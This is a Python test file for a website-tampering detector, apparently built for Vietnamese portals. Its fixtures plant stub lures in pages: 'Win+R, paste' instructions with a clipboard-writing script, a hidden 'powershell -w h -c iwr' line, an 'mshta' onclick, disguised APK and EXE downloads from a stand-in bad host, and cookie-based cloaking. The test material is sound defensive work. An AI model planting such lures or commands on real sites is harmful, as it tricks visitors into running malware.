"""Programs that are offered or served, commands that are to be pasted, passwords that are asked for: each said in its own words."""

from __future__ import annotations

import pytest

from ..joined import verify
from .attacker import Ask, Reply, files_of, serving
from .conftest import Copy, checked, site_at
from .test_names_of_findings import first_looks

pytestmark = pytest.mark.servers


@pytest.mark.parametrize(
    ("added", "kind", "words"),
    [
        ("<p>Nhấn <kbd>Win</kbd> + <kbd>R</kbd>, dán bằng Ctrl + V</p>", "command-bait", "Win + R"),
        ("<code>powershell -w h -c iwr x</code>", "command-bait", "powershell"),
        ("<a href='#' onclick=\"run('mshta http://x')\">x</a>", "command-bait", "mshta"),
        ("<p>Dán vào ô: Ctrl + V</p><script>navigator.clipboard.writeText('x')</script>", "command-bait", "bộ nhớ tạm"),
        ("<script>navigator.clipboard.writeText('x')</script>", "injected-script", "viết thẳng"),
        ('<a href="/VNeID.apk">Cài</a>', "program-offered", "mời tải VNeID.apk"),
        ('<a href="/de-thi.rar">Đề</a>', "program-offered", "mời tải de-thi.rar"),
        ('<a href="https://x.bad.example/ChromeSetup.exe?a=1">x</a>', "program-offered", "ChromeSetup.exe từ x.bad.example"),
        ('<a href="/to-roi.pdf">x</a>', "changed", "byte"),
    ],
)  # fmt: skip
def test_what_an_addition_lures_to(added: str, kind: str, words: str, copy: Copy) -> None:
    """Told with the genuine page at hand, as for every visitor but the first."""
    good = (copy.folder / "index.html").read_bytes()
    found = site_at(80, copy).comparing.difference("index.html", good.replace(b"</body>", added.encode() + b"</body>"), good)  # fmt: skip
    assert found is not None and found[0] == kind and words in found[1]


@pytest.mark.parametrize(
    ("data", "words"),
    [
        (b"MZ\x90" + b"\0" * 90, "Windows"), (b"\x7fELF" + b"\0" * 90, "ELF"), (b"PK\3\4 classes.dex", "APK"), (b"PK\3\4 word/a.xml", "zip"),
        (b"<?xml?><plist><key>PayloadType</key></plist>", "mobileconfig"),
    ],
)  # fmt: skip
def test_a_page_replaced_by_a_program(data: bytes, words: str, copy: Copy) -> None:
    def change(reply: Reply) -> None:
        reply.body, reply.headers["Content-Disposition"] = data, 'attachment; filename="font.exe"'

    detail = first_looks(copy, "/", change)["program-offered", "index.html"]
    assert words in detail and "tải về" in detail


def test_a_question_for_a_password_is_told_with_its_words(copy: Copy) -> None:
    def change(reply: Reply) -> None:
        reply.status, reply.headers["WWW-Authenticate"] = 401, 'Basic realm="vnEdu - nhap mat khau"'

    found = first_looks(copy, "/assets/site.0a1b2c3d.css", change)
    detail = found["password-asked", "assets/site.0a1b2c3d.css"]
    assert "sẽ hỏi mật khẩu" in detail and "vnEdu" in detail


@pytest.mark.parametrize("named", [True, False])
def test_a_poisoned_folder_is_told_by_its_address(named: bool, copy: Copy) -> None:
    """Only where its `index.html`, asked for by name, is the signed one."""

    def twist(ask: Ask, reply: Reply) -> None:
        if ask.path == "/en/" or (not named and ask.path == "/en/index.html"):
            reply.insert('<a href="https://x.bad.example/">x</a>')

    with serving(files_of(copy.folder), twist) as server:
        site = site_at(server.server_port, copy)
        verify.check_files(site)
    where = ("folder-differs", "/en/") if named else ("foreign-link", "en/index.html")
    assert site.report.found == {where: "liên kết tới x.bad.example"}
    assert "thư mục" in verify.KINDS["folder-differs"].title and "DirectoryIndex" in verify.KINDS["folder-differs"].todo


def test_an_alias_says_what_was_added_to_the_page(copy: Copy) -> None:
    def twist(ask: Ask, reply: Reply) -> None:
        if ask.path == "/en/index.html":
            reply.insert('<a href="/VNeID.apk">x</a>')

    with serving(files_of(copy.folder), twist) as server:
        site = site_at(server.server_port, copy)
        verify.check_files(site)
        verify.expect_alias(site, "en/index.html", "/en/index.html", verify.PLAIN)
    assert "mời tải VNeID.apk" in site.report.found["alias-differs", "/en/index.html"]


@pytest.mark.parametrize("kind", ["link", "redirect"])
def test_a_poisoned_home_is_named_as_the_way_in_and_by_what_is_planted(kind: str, copy: Copy) -> None:
    """`/` is bad, `/index.html` the signed page."""

    def twist(ask: Ask, reply: Reply) -> None:
        if ask.path == "/" and kind == "link":
            reply.insert('<a href="https://x.bad.example/">x</a>')
        elif ask.path == "/":
            reply.go()

    with serving(files_of(copy.folder), twist) as server:
        site = site_at(server.server_port, copy)
        verify.check_files(site)
    planted = "foreign-link" if kind == "link" else "redirect-foreign"
    assert site.report.found.keys() == {("folder-differs", "/"), (planted, "index.html")}


PASTE = "<title>Just a moment</title><p>Nhấn Win+R, dán Ctrl+V</p><script>navigator.clipboard.writeText('x')</script>"


@pytest.mark.parametrize("page", ["bai/mat-khau.html", ""])
def test_a_page_that_is_wholly_another_one_is_all_addition(page: str, copy: Copy) -> None:
    """Nothing of the release is loaded by it, so that no genuine page has to be known."""
    found = first_looks(copy, f"/{page}", lambda reply: setattr(reply, "body", PASTE.encode()))
    assert "Win+R" in found["command-bait", page or "index.html"]
    sold = first_looks(copy, f"/{page}", lambda reply: setattr(reply, "body", "<h1>Nhà cái</h1>".encode()))
    assert ("gambling", page or "index.html") in sold


def test_a_page_of_ours_may_speak_of_commands(copy: Copy) -> None:
    good = (copy.folder / "index.html").read_bytes().replace(b"</p>", "; nhấn Win+R, Ctrl+V</p>".encode())
    found = site_at(80, copy).comparing.difference("index.html", good)
    assert found is not None and found[0] == "changed"


@pytest.mark.parametrize(
    ("header", "words", "kind"),
    [("cookie", "seen=1", "cloak-cookie"), ("cookie", "logged_in", "cloak-cookie"), ("cookie", "session=", "cloak-cookie"), ("pragma", "no-cache", "cloak-fetch")],
)  # fmt: skip
def test_who_is_spared_and_what_the_others_are_lured_to(header: str, words: str, kind: str, copy: Copy) -> None:
    """All but those who come again, look after the portal, or press F5."""

    def twist(ask: Ask, reply: Reply) -> None:
        if ask.path == "/bai/mat-khau.html" and words not in ask.headers.get(header, ""):
            reply.body = PASTE.encode()
            reply.headers["Set-Cookie"] = "seen=1"

    with serving(files_of(copy.folder), twist) as server:
        site = site_at(server.server_port, copy)
        verify.check_files(site)
    faults = {found for found, _ in site.report.found if verify.KINDS[found].level}
    assert faults == {kind, "command-bait"}


@pytest.mark.parametrize(
    ("cookie", "strange"),
    [("admin=1", True), ("wordpress_logged_in_0a=x", True), ("session=x; HttpOnly", False), ("XSRF-TOKEN=x", False), ("nv4_sess=1", False)],
)  # fmt: skip
def test_a_cookie_of_people_who_are_signed_in(cookie: str, strange: bool, copy: Copy) -> None:
    """A site of pages has none of them."""
    faults = checked(copy, lambda ask, reply: reply.headers.update({"Set-Cookie": cookie}), "check_headers")
    assert faults == ({"header-extra"} if strange else set())
